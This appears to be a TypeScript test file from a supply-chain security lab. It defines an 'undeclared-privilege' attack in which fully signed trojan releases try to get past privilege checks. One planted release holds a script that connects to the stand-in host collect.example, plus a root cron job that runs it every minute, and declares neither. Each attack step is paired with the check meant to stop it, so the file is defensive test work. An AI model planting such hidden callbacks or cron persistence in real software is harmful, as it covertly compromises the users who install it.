// SPDX-License-Identifier: Apache-2.0
import { join } from "node:path";
import { type Attack, checks, planted } from "./lab/attack.ts";
import { keyOf } from "./lab/base.ts";
import { strikeObserver } from "./lab/fooled-observer.ts";
import { trojanWords } from "./lab/lab.ts";
import { product } from "./lab/lab-plan.ts";
import type { LiveWorld } from "./lab/live-world.ts";
import { offered } from "./lab/offered.ts";
import { packProgram } from "./lab/payload.ts";
import { loggedTrojan, type TrojanRelease } from "./lab/trojan-release.ts";
import { runs, strikeDevice } from "./lab/victim.ts";

interface Releases {
  /** Says that it wants the network. */
  readonly declared: TrojanRelease;
  /** Talks and brings a cron job, and says neither. */
  readonly silent: TrojanRelease;
}

/**
 * A release with everything in order asks for more than the device grants; or it does more than it asks for, which only its bytes show: an observer reads what they
 * say, a device sees what the system would run.
 */
export const undeclaredPrivilege: Attack = planted<Releases>({
  name: "undeclared-privilege",
  holds: "the keys of the proposer, the build issuer, an approver, the signing quorum and publish: all that a release takes",
  plant: async (world) => {
    const talking = await packProgram(join(world.scratch, "talking"), product, trojanWords, 0, {
      "lib/report.js": 'import { connect } from "node:net";\nconnect(443, "collect.example");\n',
      "etc/cron.d/report": "* * * * * root node /opt/hello/lib/report.js\n",
    });
    return {
      declared: await approved(world, { privileges: ["network"], urgent: true }),
      silent: await approved({ ...world, trojan: talking }, { privileges: [] }),
    };
  },
  async prepare(lab, stack, { declared, silent }) {
    const mirror = await offered(lab, stack, declared);
    const unobserved = await offered(lab, stack, silent);
    const shown = { stores: [unobserved.url], kinds: ["undeclared-privilege"], about: silent.entry.digest };
    return [
      {
        does: "offers a device a release that declares a privilege which it does not grant",
        stoppedBy: checks("privileges/granted"),
        strike: (without) => strikeDevice(lab.devices.one, mirror, without, runs(product, trojanWords)),
      },
      {
        does: "releases a program that opens connections and declares nothing",
        stoppedBy: checks("undeclared-privilege"),
        strike: (without) => strikeObserver(lab, shown, without),
      },
      {
        does: "offers a device, while no observer looks, a release with a cron job and declares nothing",
        stoppedBy: checks("stage/observed-privileges"),
        strike: (without) => strikeDevice(lab.devices.one, unobserved, without, runs(product, trojanWords)),
      },
    ];
  },
});

async function approved(world: LiveWorld, statement: Parameters<typeof loggedTrojan>[1]["statement"]): Promise<TrojanRelease> {
  const signers = await Promise.all(world.project.plan.signers.holders.map(({ holder }) => keyOf(world.project, holder)));
  return loggedTrojan(world, { signers, ...(statement && { statement }) });
}
